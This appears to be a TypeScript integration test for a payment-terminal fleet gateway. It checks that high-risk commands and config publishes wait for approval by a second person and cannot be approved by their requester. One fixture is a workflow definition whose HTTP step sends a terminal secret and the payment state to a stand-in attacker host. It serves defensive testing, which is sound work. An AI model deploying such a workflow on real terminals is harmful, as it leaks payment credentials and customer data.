/**
 * High-risk commands are guarded out of the box. The attack this reproduces: an operator
 * deploys, by `update_workflow`, a definition whose HTTP step sends a terminal secret and the
 * payment state to a host of their choosing — which the terminal used to execute at once. Now,
 * with no policy written by anyone, the shipped default policy holds it: nothing reaches the
 * connected device (a command sent afterwards is delivered first), its requester cannot
 * approve it, a second person sees it and rejects it; approved, it reaches the device. REBOOT,
 * SYNC_WASM and UPDATE_CONFIG — to one device, in a batch or in a broadcast — are held the
 * same way, and so is publishing a configuration layer (nothing is published until a second
 * person approves); an admin sends them directly, and an admin relaxes the default through the
 * ordinary policy API, after which the operator's command goes through.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiToken } from '../../gateway/index.js';
import { testClock, type DeviceSocket } from '../support/device.js';
import { governanceRoutes } from '../../gateway/governance/module.js';
import { registerConfigRoutes } from '../../gateway/config/routes.js';
import { json, onlineDevice, startFleetGateway, type FleetGateway } from '../support/fleet.js';
import { CLOUD_DIALECTS } from '../support/stores.js';

type Json = Record<string, unknown>;
interface Approval {
  approval_id: string;
  status: string;
  requested_by: string;
  request: { command_id?: string; policy_name: string; command_type?: string };
}
interface Policy {
  policy_id: string;
  name: string;
  command_type: string | null;
  risk_level: string | null;
  requires_approval: boolean;
  min_approvals: number;
  approver_roles: string[];
  exempt_roles: string[];
  approval_ttl_seconds: number;
  enabled: boolean;
}
interface Pushed {
  command: { command_id: string; command_type: string; payload: Json };
}

/** A payment workflow whose HTTP step sends a terminal secret and the whole state away. */
const EXFILTRATING_DEFINITION = `workflow_type: pos_payment
workflow_version: '9'
steps:
  - name: request_authorization
    type: HTTP
    http_config:
      method: POST
      url: 'https://collector.attacker.invalid/x'
      headers:
        Authorization: 'Bearer {{ secrets.ACQ_KEY }}'
      body:
        state: '{{ state }}'
      timeout: 5
`;
const UPDATE_WORKFLOW = {
  command_type: 'update_workflow',
  payload: {
    workflow_type: 'pos_payment',
    workflow_version: '9',
    definition_yaml: EXFILTRATING_DEFINITION,
  },
};
const HASH = 'ab'.repeat(32);

const dialect = CLOUD_DIALECTS[0]!;

describe(`high-risk commands guarded by default (${dialect.name})`, () => {
  const clock = testClock();
  let gw: FleetGateway;
  let device: DeviceSocket;
  const tokens: Record<string, string> = {};

  const post = (who: string, path: string, body: unknown = {}) =>
    gw.asUser(tokens[who]!, path, { method: 'POST', body: JSON.stringify(body) });
  const send = (who: string, command: { command_type: string; payload: Json }) =>
    post(who, '/api/v1/devices/gc-1/commands', command);
  const held = async (res: Response, policy: string) => {
    expect(res.status, await res.clone().text()).toBe(202);
    const approval = await json<Approval>(res);
    expect(approval.status).toBe('PENDING');
    expect(approval.request.policy_name).toBe(policy);
    return approval;
  };
  const decide = (who: string, id: string, decision: 'approve' | 'reject') =>
    post(who, `/api/v1/approvals/${id}/${decision}`, {});
  const code = async (res: Response, status: number) => {
    expect(res.status, await res.clone().text()).toBe(status);
    return (await json<{ code: string }>(res)).code;
  };
  const commandRows = (type: string) =>
    gw.handle.store.cloud
      .selectFrom('device_commands')
      .select(['command_id', 'status'])
      .where('command_type', '=', type)
      .execute();
  /** The next command pushed to the device (acked at once). */
  const nextPushed = async () => {
    const frame = (await device.next('command')) as unknown as Pushed;
    device.send({ type: 'ack', command_id: frame.command.command_id, status: 'EXECUTED' });
    await device.next('acked');
    return frame.command;
  };
  const policies = async () =>
    (
      await json<{ policies: Policy[] }>(
        await gw.asUser(tokens.ada!, '/api/v1/authorization-policies'),
      )
    ).policies;

  beforeAll(async () => {
    gw = await startFleetGateway(dialect, clock, [
      governanceRoutes({ approvalSweepIntervalMs: 3_600_000 }),
      registerConfigRoutes,
    ]);
    for (const [name, role] of [
      ['mallory', 'operator'],
      ['olga', 'operator'],
      ['ada', 'admin'],
      ['vic', 'viewer'],
    ] as const)
      tokens[name] = (await createApiToken(gw.handle.store, { name, role })).token;
    tokens.mallory2 = (
      await createApiToken(gw.handle.store, { name: 'mallory', role: 'operator' })
    ).token;
    device = await onlineDevice(gw.url, 'gc-1', await gw.insertDevice('gc-1'), clock);
  });
  afterAll(async () => {
    await device?.close();
    await gw?.close();
  });

  it('ships the default policies, visible through the policy API', async () => {
    const byName = new Map((await policies()).map((p) => [p.name, p]));
    expect(byName.get('default-high-risk-commands')).toMatchObject({
      command_type: null,
      risk_level: 'HIGH',
      requires_approval: true,
      min_approvals: 1,
      approver_roles: ['operator'],
      exempt_roles: ['admin'],
      enabled: true,
    });
    expect(byName.get('default-configuration-pushes')).toMatchObject({
      command_type: 'UPDATE_CONFIG',
      risk_level: null,
      requires_approval: true,
      approver_roles: ['operator'],
      exempt_roles: ['admin'],
      enabled: true,
    });
    // an operator reads them but may not change them
    const id = byName.get('default-high-risk-commands')!.policy_id;
    const del = await gw.asUser(tokens.mallory!, `/api/v1/authorization-policies/${id}`, {
      method: 'DELETE',
    });
    expect(del.status).toBe(403);
  });

  it("holds an operator's workflow that sends a secret away: the device gets nothing until a second person approves", async () => {
    const approval = await held(
      await send('mallory', UPDATE_WORKFLOW),
      'default-high-risk-commands',
    );
    expect(approval.requested_by).toBe('mallory');
    expect(await commandRows('update_workflow')).toEqual([]);
    // a command sent afterwards is the first the device receives
    expect((await send('mallory', { command_type: 'DIAGNOSTIC', payload: {} })).status).toBe(201);
    expect((await nextPushed()).command_type).toBe('DIAGNOSTIC');
    // the requester cannot approve it, with any of their tokens; a viewer cannot either
    for (const who of ['mallory', 'mallory2'])
      expect(await code(await decide(who, approval.approval_id, 'approve'), 403)).toBe(
        'SELF_APPROVAL_FORBIDDEN',
      );
    expect(await code(await decide('vic', approval.approval_id, 'approve'), 403)).toBe(
      'NOT_AN_APPROVER',
    );
    expect(await commandRows('update_workflow')).toEqual([]);
    // the second person reads what it would deploy, and rejects it
    const read = await json<{ request: { payload: { definition_yaml: string } } }>(
      await gw.asUser(tokens.olga!, `/api/v1/approvals/${approval.approval_id}`),
    );
    expect(read.request.payload.definition_yaml).toContain('secrets.ACQ_KEY');
    const rejected = await decide('olga', approval.approval_id, 'reject');
    expect(rejected.status, await rejected.clone().text()).toBe(200);
    expect(await commandRows('update_workflow')).toEqual([]);
    expect((await send('olga', { command_type: 'DIAGNOSTIC', payload: {} })).status).toBe(201);
    expect((await nextPushed()).command_type).toBe('DIAGNOSTIC');

    // asked again and approved by a second person, it reaches the device
    const again = await held(await send('mallory', UPDATE_WORKFLOW), 'default-high-risk-commands');
    const granted = await decide('olga', again.approval_id, 'approve');
    expect(granted.status, await granted.clone().text()).toBe(200);
    expect((await json<{ approval: Approval }>(granted)).approval.status).toBe('EXECUTED');
    expect(await nextPushed()).toMatchObject({
      command_id: again.request.command_id,
      command_type: 'update_workflow',
    });
  });

  it('holds REBOOT, SYNC_WASM and UPDATE_CONFIG by default, alone, in a batch or a broadcast; an admin sends them directly', async () => {
    const high = 'default-high-risk-commands';
    const config = 'default-configuration-pushes';
    const commands = [
      { command: { command_type: 'REBOOT', payload: {} }, policy: high },
      { command: { command_type: 'SYNC_WASM', payload: { binary_hash: HASH } }, policy: high },
      { command: { command_type: 'sync_wasm', payload: { binary_hash: HASH } }, policy: high },
      { command: { command_type: 'UPDATE_CONFIG', payload: {} }, policy: config },
    ];
    for (const { command, policy } of commands) {
      await held(await send('mallory', command), policy);
      await held(
        await post('mallory', '/api/v1/command-batches', {
          device_ids: ['gc-1'],
          commands: [{ command_type: 'DIAGNOSTIC', payload: {} }, command],
        }),
        policy,
      );
      await held(
        await post('mallory', '/api/v1/command-broadcasts', {
          command,
          target: { device_ids: ['gc-1'] },
        }),
        policy,
      );
    }
    for (const type of ['REBOOT', 'SYNC_WASM', 'sync_wasm', 'UPDATE_CONFIG'])
      expect(await commandRows(type)).toEqual([]);
    const batches = await gw.handle.store.cloud
      .selectFrom('command_batches')
      .select('batch_id')
      .execute();
    const broadcasts = await gw.handle.store.cloud
      .selectFrom('command_broadcasts')
      .select('broadcast_id')
      .execute();
    expect([batches, broadcasts]).toEqual([[], []]);
    // a low-risk command is not held
    expect((await send('mallory', { command_type: 'SYNC_TRANSACTIONS', payload: {} })).status).toBe(
      201,
    );
    expect((await nextPushed()).command_type).toBe('SYNC_TRANSACTIONS');
    // an admin is exempt: sent at once
    for (const { command } of commands) {
      const res = await send('ada', command);
      expect(res.status, await res.clone().text()).toBe(201);
      expect((await nextPushed()).command_type).toBe(command.command_type);
    }
  });

  it("holds an operator's configuration layer publish: no version exists until a second person approves", async () => {
    const put = (who: string, path: string, body: Json) =>
      gw.asUser(tokens[who]!, path, { method: 'PUT', body: JSON.stringify(body) });
    const layer = { store_and_forward: { max_unsent_amount_minor: 999_999_999, max_records: 1 } };
    const approval = await held(
      await put('mallory', '/api/v1/config/device/gc-1', layer),
      'default-configuration-pushes',
    );
    expect(approval.request).toMatchObject({ kind: 'config_layer', scope: 'device' });
    const current = () => gw.asUser(tokens.ada!, '/api/v1/config/device/gc-1');
    expect((await current()).status).toBe(404);
    expect(await code(await decide('mallory2', approval.approval_id, 'approve'), 403)).toBe(
      'SELF_APPROVAL_FORBIDDEN',
    );
    expect((await current()).status).toBe(404);
    const granted = await decide('olga', approval.approval_id, 'approve');
    expect(granted.status, await granted.clone().text()).toBe(200);
    const decided = await json<{ approval: Approval & { result: Json } }>(granted);
    expect(decided.approval.status).toBe('EXECUTED');
    const published = await current();
    expect(published.status).toBe(200);
    expect(await json(published)).toMatchObject({
      version: 1,
      config: layer,
      created_by: 'mallory',
      current: true,
    });
    expect(decided.approval.result).toMatchObject({ config_id: expect.any(String) as unknown });
    // an admin publishes directly
    const direct = await put('ada', '/api/v1/config/fleet/*', { config_poll_interval_seconds: 60 });
    expect(direct.status, await direct.clone().text()).toBe(200);
  });

  it('lets an admin relax the default policy through the API, after which the operator goes through', async () => {
    const policy = (await policies()).find((p) => p.name === 'default-high-risk-commands')!;
    // operators may send high-risk commands to this device directly again
    const { policy_id: id, ...fields } = policy;
    const relaxed = await gw.asUser(tokens.ada!, `/api/v1/authorization-policies/${id}`, {
      method: 'PUT',
      body: JSON.stringify({
        name: fields.name,
        risk_level: fields.risk_level,
        requires_approval: true,
        min_approvals: fields.min_approvals,
        approver_roles: fields.approver_roles,
        approval_ttl_seconds: fields.approval_ttl_seconds,
        exempt_roles: ['admin', 'operator'],
      }),
    });
    expect(relaxed.status, await relaxed.clone().text()).toBe(200);
    const sent = await send('mallory', UPDATE_WORKFLOW);
    expect(sent.status, await sent.clone().text()).toBe(201);
    expect((await nextPushed()).command_type).toBe('update_workflow');
    // the change is audited with what changed
    const audit = await gw.handle.store.cloud
      .selectFrom('command_audit_log')
      .select(['actor', 'details'])
      .where('event_type', '=', 'AUTHORIZATION_POLICY_UPDATED')
      .executeTakeFirstOrThrow();
    expect(audit).toMatchObject({
      actor: 'ada',
      details: { name: 'default-high-risk-commands', changed: ['exempt_roles'] },
    });
    // deleting the configuration default lets an operator's UPDATE_CONFIG through as well
    const config = (await policies()).find((p) => p.name === 'default-configuration-pushes')!;
    const deleted = await gw.asUser(
      tokens.ada!,
      `/api/v1/authorization-policies/${config.policy_id}`,
      { method: 'DELETE' },
    );
    expect(deleted.status).toBe(204);
    expect((await send('mallory', { command_type: 'UPDATE_CONFIG', payload: {} })).status).toBe(
      201,
    );
    expect((await nextPushed()).command_type).toBe('UPDATE_CONFIG');
  });
});
